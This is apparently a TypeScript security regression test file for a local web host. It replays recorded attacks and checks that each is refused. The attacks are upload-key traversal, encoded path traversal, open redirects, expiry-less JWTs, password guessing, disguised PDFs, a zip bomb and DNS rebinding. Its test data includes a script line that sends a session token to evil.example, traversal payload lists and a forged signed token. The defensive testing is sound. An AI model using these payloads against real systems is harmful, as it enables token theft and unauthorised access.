/**
 * What a hostile user tried against the running local host (issue 17), each with the exact request,
 * so that none of it comes back: upload tickets used to write elsewhere, reads that leave a site's
 * bucket, client mistakes answered with 500, open redirects, tokens without an expiry.
 */
import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { createPresignedPost } from '@aws-sdk/s3-presigned-post';
import { importJWK, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routes } from '../../infra/system.ts';
import { apiClient, dipContent, emulatorS3, sha256hex, startTestHost, TINY_PDF } from '../support/host.ts';
import { zip } from '../support/zip.ts';

let host: Awaited<ReturnType<typeof startTestHost>>;
let api: ReturnType<typeof apiClient>;
beforeAll(async () => {
  host = await startTestHost();
  api = apiClient(host);
});
afterAll(() => host?.cleanup());

/** The staff app's upload: the ticket's fields (some changed), then the file last. */
async function postForm(url: string, fields: Record<string, string>, bytes: Uint8Array, fileType = 'application/pdf') {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append('file', new Blob([Buffer.from(bytes)], { type: fileType }), 'file');
  const res = await fetch(url, { method: 'POST', body: form });
  return { status: res.status, body: await res.text() };
}

async function ticket() {
  const created = await api('petugas.dinkes', 'POST', '/api/items', { content: dipContent({ title: `Uji tiket unggah ${Date.now()}` }) });
  const doc = await api('petugas.dinkes', 'POST', `/api/items/${created.body.itemId}/documents`, {
    fileName: 'lampiran.pdf',
    contentType: 'application/pdf',
    size: TINY_PDF.length,
    sha256: sha256hex(TINY_PDF),
  });
  expect(doc.status).toBe(201);
  return doc.body.upload as { url: string; fields: Record<string, string>; key: string };
}

describe('1. an upload ticket writes exactly its one object', () => {
  it('the attack: key changed to ../sip-ppid-staff-app/app/evil.js, text/javascript → refused; nothing lands in the staff app', async () => {
    const t = await ticket();
    const evil = Buffer.from('fetch("https://evil.example/?t="+sessionStorage.getItem("token"))');
    const res = await postForm(t.url, { ...t.fields, key: '../sip-ppid-staff-app/app/evil.js', 'Content-Type': 'text/javascript' }, evil, 'text/javascript');
    expect(res.status).toBe(403);
    expect(res.body).toContain('<Code>AccessDenied</Code>');
    expect((await fetch(`${host.url}/app/evil.js`)).status).toBe(404);
    // The same key with the policy's own content type: the key condition still fails.
    const sameType = await postForm(t.url, { ...t.fields, key: '../sip-ppid-staff-app/app/evil.html' }, TINY_PDF);
    expect(sameType.status).toBe(403);
    expect(sameType.body).toContain(`Policy Condition failed: [&#34;eq&#34;,&#34;$key&#34;`);
    expect((await fetch(`${host.url}/app/evil.html`)).status).toBe(404);
  });

  it('each tampered field gets the error S3 gives', async () => {
    const t = await ticket();
    const cases: [string, Record<string, string>, Uint8Array, number, string][] = [
      ['another key in the bucket', { ...t.fields, key: `${t.key}-other` }, TINY_PDF, 403, 'Policy Condition failed'],
      ['another content type', { ...t.fields, 'Content-Type': 'text/html' }, TINY_PDF, 403, 'Policy Condition failed'],
      ['more bytes than declared', t.fields, Buffer.concat([TINY_PDF, Buffer.alloc(10)]), 400, '<Code>EntityTooLarge</Code>'],
      [
        'a changed policy',
        { ...t.fields, Policy: Buffer.from('{"expiration":"2099-01-01T00:00:00Z","conditions":[]}').toString('base64') },
        TINY_PDF,
        403,
        'signature we calculated does not match',
      ],
      ['a changed signature', { ...t.fields, 'X-Amz-Signature': '0'.repeat(64) }, TINY_PDF, 403, 'signature we calculated does not match'],
      ['a field outside the policy', { ...t.fields, 'x-amz-meta-owner': 'evil' }, TINY_PDF, 403, 'Extra input fields: x-amz-meta-owner'],
      ['no policy at all', Object.fromEntries(Object.entries(t.fields).filter(([k]) => k !== 'Policy')), TINY_PDF, 403, 'AccessDenied'],
    ];
    for (const [what, fields, bytes, status, text] of cases) {
      const res = await postForm(t.url, fields, bytes);
      expect({ what, status: res.status }).toEqual({ what, status });
      expect(res.body, what).toContain(text);
    }
    // The ticket itself still works, once, for its own file.
    expect((await postForm(t.url, t.fields, TINY_PDF)).status).toBe(204);
  });

  it('an expired ticket is refused (Policy expired); keys with . or .. segments are refused by the emulator', async () => {
    const s3 = emulatorS3(host);
    const expired = await createPresignedPost(s3, { Bucket: host.bucketNames.documents, Key: 'uploads/expired.pdf', Expires: 1 });
    await new Promise((r) => setTimeout(r, 1500));
    const res = await postForm(expired.url, expired.fields, TINY_PDF);
    expect(res.status).toBe(403);
    expect(res.body).toContain('Policy expired');
    // Sent as written (fetch would resolve the dots itself), naming the local key pair.
    const raw = (path: string) =>
      new Promise<number>((ok, fail) => {
        const url = new URL(host.endpoints.s3);
        const authorization = 'AWS4-HMAC-SHA256 Credential=S3RVER/20261201/ap-southeast-3/s3/aws4_request';
        request({ host: url.hostname, port: url.port, path, headers: { authorization } }, (r) => {
          r.resume();
          ok(r.statusCode ?? 0);
        })
          .on('error', fail)
          .end();
      });
    for (const path of [
      '/sip-ppid-documents/../sip-ppid-staff-app/app/index.html',
      '/sip-ppid-documents/%2E%2E/sip-ppid-register/index.html',
      '/sip-ppid-register/a/./b',
    ]) {
      expect({ path, status: await raw(path) }).toEqual({ path, status: 400 });
    }
    // The buckets are private: no anonymous read on the emulator's port either.
    expect((await fetch(`${host.endpoints.s3}/sip-ppid-staff-app/app/index.html`)).status).toBe(403);
  });
});

describe('2. the sites serve their own bucket and nothing else', () => {
  it('encoded and double-encoded traversals to the private document bucket answer 404; malformed encoding 400', async () => {
    const key = 'exclusions/secret/surat-penetapan.pdf';
    await emulatorS3(host).send(
      new (await import('@aws-sdk/client-s3')).PutObjectCommand({
        Bucket: host.bucketNames.documents,
        Key: key,
        Body: TINY_PDF,
        ContentType: 'application/pdf',
      }),
    );
    const target = `sip-ppid-documents/${key}`;
    const enc = (s: string) => s.replaceAll('/', '%2F');
    const paths = [
      `/..%2F${enc(target)}`,
      `/app/..%2F..%2F${enc(target)}`,
      `/%2e%2e%2f${enc(target)}`,
      `/%2E%2E/${target}`,
      `/app/%2e%2e/%2e%2e/${target}`,
      `/..%5C${enc(target)}`,
      `/%252e%252e%252f${enc(target)}`,
      `/dik/%2e%2e%2f%2e%2e%2f${enc(target)}`,
    ];
    for (const path of paths) {
      const res = await fetch(`${host.url}${path}`);
      const body = Buffer.from(await res.arrayBuffer());
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
      expect(body.subarray(0, 5).toString()).not.toBe('%PDF-');
    }
    for (const path of ['/%E0%A4%A', '/app/%zz', '/dik/%']) {
      const res = await fetch(`${host.url}${path}`);
      expect({ path, status: res.status }).toEqual({ path, status: 400 });
    }
  });
});

describe('5. client mistakes are 400s, never 500s', () => {
  it('malformed percent-encoding in every parameterised route is a 400 with a message', async () => {
    const parameterised = routes.filter((r) => r.path.includes('{'));
    expect(parameterised.length).toBeGreaterThanOrEqual(20);
    for (const r of parameterised) {
      const path = r.path.replace(/\{\w+\}/g, '%zz');
      const res = await api('admin', r.method, path, r.method === 'GET' || r.method === 'DELETE' ? undefined : {});
      expect({ route: `${r.method} ${r.path}`, status: res.status }).toEqual({ route: `${r.method} ${r.path}`, status: 400 });
      expect(res.body.error.messages.en).toMatch(/percent-encoding/);
    }
  });

  it('forged cursors with the right partition key and missing or empty sort keys are 400', async () => {
    const forged = [
      'eyJnc2kxcGsiOiAiSVRFTVMjZGlua2VzIiwgImdzaTFzayI6ICIyMDI2IzAwMDEifQ==',
      Buffer.from(JSON.stringify({ gsi1pk: 'ITEMS#dinkes', gsi1sk: '', pk: 'ITEM#x', sk: 'ITEM' })).toString('base64url'),
      Buffer.from(JSON.stringify({ gsi1pk: 'ITEMS#dinkes', gsi1sk: '2026#0001', pk: 'ITEM#x', sk: 7 })).toString('base64url'),
      Buffer.from(JSON.stringify(['ITEMS#dinkes'])).toString('base64url'),
    ];
    for (const cursor of forged) {
      const res = await api('petugas.dinkes', 'GET', `/api/items?agencyId=dinkes&cursor=${encodeURIComponent(cursor)}`);
      expect({ cursor, status: res.status }).toEqual({ cursor, status: 400 });
    }
    const audit = Buffer.from(JSON.stringify({ pk: 'AUDIT#dinkes', sk: '' })).toString('base64url');
    expect((await api('admin', 'GET', `/api/audit?agencyId=dinkes&cursor=${audit}`)).status).toBe(400);
  });

  it('a 5,000-character agencyId is a 400 naming the field', async () => {
    const res = await api('admin', 'POST', '/api/calendar/deadline', {
      agencyId: 'a'.repeat(5000),
      start: new Date().toISOString(),
      rule: { unit: 'working_days', amount: 10 },
    });
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body.error.details)).toContain('agencyId');
    expect((await api('admin', 'GET', `/api/items?agencyId=${'a'.repeat(5000)}`)).status).toBe(400);
  });
});

describe('7 and 8. the identity provider', () => {
  it('redirects only to the registered callback and sign-out URLs', async () => {
    const form = new URLSearchParams({
      client_id: 'staff-app',
      response_type: 'code',
      redirect_uri: 'http://evil.example/cb',
      code_challenge: 'x'.repeat(43),
      code_challenge_method: 'S256',
      username: 'admin',
      password: 'demo12345',
    });
    const post = await fetch(`${host.url}/auth/oauth2/authorize`, { method: 'POST', body: form, redirect: 'manual' });
    expect(post.status).toBe(400);
    expect(post.headers.get('location')).toBeNull();
    const get = await fetch(`${host.url}/auth/oauth2/authorize?${form}`, { redirect: 'manual' });
    expect(get.status).toBe(400);
    for (const to of ['//evil.example/x', 'http://evil.example/', 'http://localhost.evil.example/app/', '/\\evil.example']) {
      const res = await fetch(`${host.url}/auth/logout?logout_uri=${encodeURIComponent(to)}`, { redirect: 'manual' });
      expect({ to, location: res.headers.get('location') }).toEqual({ to, location: '/app/' });
    }
    const own = `${host.url}/app/`;
    const ok = await fetch(`${host.url}/auth/logout?logout_uri=${encodeURIComponent(own)}`, { redirect: 'manual' });
    expect(ok.headers.get('location')).toBe(own);
    // The registered callback still gets its code.
    const good = await fetch(`${host.url}/auth/oauth2/authorize`, {
      method: 'POST',
      body: new URLSearchParams({ ...Object.fromEntries(form), redirect_uri: own }),
      redirect: 'manual',
    });
    expect(good.status).toBe(302);
    expect(good.headers.get('location')).toMatch(new RegExp(`^${own.replaceAll('.', '\\.')}\\?code=`));
  });

  it('refuses a correctly signed token that has no expiry', async () => {
    const jwk = JSON.parse(readFileSync(join(host.dataDir, 'idp-signing-key.json'), 'utf8'));
    const key = await importJWK(jwk, 'RS256');
    const claims = { 'cognito:username': 'admin', 'cognito:groups': ['admin'], 'custom:agency': 'diskominfo', token_use: 'id' };
    const base = () => new SignJWT(claims).setProtectedHeader({ alg: 'RS256', kid: jwk.kid }).setIssuer(`${host.url}/auth`).setAudience('staff-app');
    const noExp = await base().setIssuedAt().sign(key);
    const withExp = await base().setIssuedAt().setExpirationTime('5m').sign(key);
    const call = (t: string) => fetch(`${host.url}/api/me`, { headers: { authorization: `Bearer ${t}` } });
    expect((await call(noExp)).status).toBe(401);
    expect((await call(withExp)).status).toBe(200);
  });
});

describe('6. guessing passwords', () => {
  const attempt = (username: string, password: string) =>
    fetch(`${host.url}/auth/oauth2/token`, {
      method: 'POST',
      body: new URLSearchParams({ grant_type: 'password', client_id: 'staff-app', username, password }),
    });

  it('after 5 wrong passwords the account waits (429, Retry-After, growing); the right password then works again after the wait', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 30; i++) statuses.push((await attempt('ppid.utama', `salah-${i}`)).status);
    expect(statuses.slice(0, 5)).toEqual([400, 400, 400, 400, 400]);
    expect(statuses.slice(5).every((s) => s === 429)).toBe(true);
    // Even the right password waits while the throttle holds.
    const held = await attempt('ppid.utama', 'demo12345');
    expect(held.status).toBe(429);
    const retryAfter = Number(held.headers.get('retry-after'));
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(((await held.json()) as { messages: { id: string } }).messages.id).toMatch(/Terlalu banyak percobaan/);
    await new Promise((r) => setTimeout(r, retryAfter * 1000 + 200));
    // One more wrong one doubles the wait ...
    expect((await attempt('ppid.utama', 'salah-lagi')).status).toBe(400);
    const longer = await attempt('ppid.utama', 'demo12345');
    expect(longer.status).toBe(429);
    expect(Number(longer.headers.get('retry-after'))).toBeGreaterThan(retryAfter);
    await new Promise((r) => setTimeout(r, Number(longer.headers.get('retry-after')) * 1000 + 200));
    // ... and the right one, after it, signs in and clears the count.
    expect((await attempt('ppid.utama', 'demo12345')).status).toBe(200);
    expect((await attempt('ppid.utama', 'salah')).status).toBe(400);
  }, 30_000);

  it('the sign-in form answers 429 the same way', async () => {
    const form = (password: string) =>
      fetch(`${host.url}/auth/oauth2/authorize`, {
        method: 'POST',
        redirect: 'manual',
        body: new URLSearchParams({
          client_id: 'staff-app',
          response_type: 'code',
          redirect_uri: `${host.url}/app/`,
          code_challenge: 'x'.repeat(43),
          code_challenge_method: 'S256',
          username: 'atasan.ppid',
          password,
        }),
      });
    for (let i = 0; i < 5; i++) expect((await form(`salah-${i}`)).status).toBe(401);
    const held = await form('salah-6');
    expect(held.status).toBe(429);
    expect(await held.text()).toContain('Terlalu banyak percobaan masuk yang gagal');
  });
});

describe('8. smaller findings', () => {
  it('the staff app and the API tell search engines to keep out (X-Robots-Tag); the public register does not', async () => {
    for (const path of ['/app/', '/app/config.json', '/api/health']) {
      const res = await fetch(`${host.url}${path}`);
      expect(res.headers.get('x-robots-tag'), path).toBe('noindex, nofollow');
    }
    for (const path of ['/', '/dip/', '/tidak-ada/']) expect((await fetch(`${host.url}${path}`)).headers.get('x-robots-tag'), path).toBeNull();
  });

  it('/api/* and /app/config.json carry the security headers CloudFront sends in AWS', async () => {
    for (const path of ['/api/health', '/api/me', '/app/config.json']) {
      const res = await fetch(`${host.url}${path}`);
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('strict-transport-security'), path).toMatch(/max-age=/);
      expect(res.headers.get('content-security-policy'), path).toMatch(/frame-ancestors 'none'/);
      expect(res.headers.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin');
    }
  });

  it('an HTML page that begins with %PDF is not accepted as a PDF; a DOCX that inflates to 1 GiB is not accepted', async () => {
    const created = await api('petugas.dinkes', 'POST', '/api/items', { content: dipContent({ title: `Uji berkas palsu ${Date.now()}` }) });
    const upload = async (fileName: string, contentType: string, bytes: Buffer) => {
      const doc = await api('petugas.dinkes', 'POST', `/api/items/${created.body.itemId}/documents`, {
        fileName,
        contentType,
        size: bytes.length,
        sha256: sha256hex(bytes),
      });
      expect(doc.status).toBe(201);
      expect((await postForm(doc.body.upload.url, doc.body.upload.fields, bytes, contentType)).status).toBe(204);
      return api('petugas.dinkes', 'POST', `/api/items/${created.body.itemId}/documents/${doc.body.document.docId}/verify`, undefined, {
        'accept-language': 'en',
      });
    };
    const fakePdf = Buffer.from('%PDF-1.4\n<!doctype html><html><body><script>fetch("/api/me")</script></body></html>\n');
    const pdf = await upload('laporan.pdf', 'application/pdf', fakePdf);
    expect(pdf.status).toBe(415);
    expect(pdf.body.error.message).toMatch(/starts like a PDF but is not a whole PDF/);
    // A DOCX whose central directory declares 1 GiB for one part.
    const docx = zip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'word/document.xml', data: Buffer.alloc(2048, 32), declaredSize: 1024 ** 3 },
    ]);
    const bomb = await upload('laporan.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', docx);
    expect(bomb.status).toBe(415);
    expect(bomb.body.error.message).toMatch(/inflates far too much/);
  });

  it('the health check asks DynamoDB and S3 at most every few seconds', async () => {
    const first = (await (await fetch(`${host.url}/api/health`)).json()) as { checkedAt: string; status: string };
    const again = await Promise.all(Array.from({ length: 20 }, async () => (await (await fetch(`${host.url}/api/health`)).json()) as { checkedAt: string }));
    expect(first.status).toBe('ok');
    expect(new Set(again.map((h) => h.checkedAt))).toEqual(new Set([first.checkedAt]));
  });

  it('the local host answers only to loopback names (no DNS rebinding onto the outbox or the engine API)', async () => {
    const { request } = await import('node:http');
    const statusFor = (path: string, hostHeader: string) =>
      new Promise<number>((ok, fail) => {
        request({ host: '127.0.0.1', port: host.port, path, headers: { host: hostHeader } }, (r) => {
          r.resume();
          ok(r.statusCode ?? 0);
        })
          .on('error', fail)
          .end();
      });
    expect(await statusFor('/outbox/', 'evil.example')).toBe(421);
    expect(await statusFor('/_local/stepfunctions', `rebind.evil.example:${host.port}`)).toBe(421);
    expect(await statusFor('/outbox/', `localhost:${host.port}`)).toBe(200);
    expect(await statusFor('/outbox/', `127.0.0.1:${host.port}`)).toBe(200);
  });
});
